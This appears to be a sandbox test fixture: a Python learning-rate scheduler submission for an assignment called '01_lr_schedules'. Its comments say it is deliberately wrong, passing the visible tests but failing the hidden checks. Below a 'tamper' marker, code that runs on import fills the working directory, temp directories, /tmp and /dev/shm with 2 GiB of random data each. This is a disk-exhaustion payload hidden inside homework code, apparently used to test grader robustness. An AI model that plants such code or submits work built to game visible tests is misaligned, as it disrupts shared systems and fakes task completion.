# attack: write a 2 GiB file into cwd, the temp dir, /tmp and /dev/shm, printing progress (each removed afterwards)
# assignment: 01_lr_schedules
# wrong: stops decaying after 6 decays (min(step // step_size, 6)); passes the visible tests, fails both hidden checks
class StepDecayScheduler:
    def __init__(self, optimizer, lr_initial, gamma=0.5, step_size=1000):
        self.optimizer = optimizer
        self.lr_initial = lr_initial
        self.gamma = gamma
        self.step_size = step_size

    def get_lr(self, step):
        n_decays = min(step // self.step_size, 6)
        return self.lr_initial * self.gamma ** n_decays

    def step(self, current_step):
        lr = self.get_lr(current_step)
        for group in self.optimizer.param_groups:
            group["lr"] = lr
        return lr
# --- tamper ---
import os as _os
import tempfile as _tempfile

_BLOCK = _os.urandom(16 * 2 ** 20)
_TARGET = 2 * 2 ** 30
_folders = []
for _folder in (_os.getcwd(), _tempfile.gettempdir(), "/tmp", "/dev/shm"):
    try:
        _real = _os.path.realpath(_folder)
    except OSError:
        continue
    if _real not in _folders and _os.path.isdir(_real):
        _folders.append(_real)
for _folder in _folders:
    _path = _os.path.join(_folder, f".hostile-fill-{_os.getpid()}.bin")
    _written = 0
    try:
        with open(_path, "wb") as _handle:
            while _written < _TARGET:
                _handle.write(_BLOCK)
                _written += len(_BLOCK)
                if _written % (256 * 2 ** 20) == 0:
                    print(f"disk fill: {_written / 2 ** 20:.0f} MiB in {_folder}", flush=True)
            _handle.flush()
            _os.fsync(_handle.fileno())
        print(f"disk fill: wrote the whole 2 GiB to {_folder}", flush=True)
    except OSError as _error:
        print(f"disk fill: stopped after {_written / 2 ** 20:.0f} MiB in {_folder}: {type(_error).__name__}: {_error}",
              flush=True)
    finally:
        try:
            _os.remove(_path)
        except OSError:
            pass
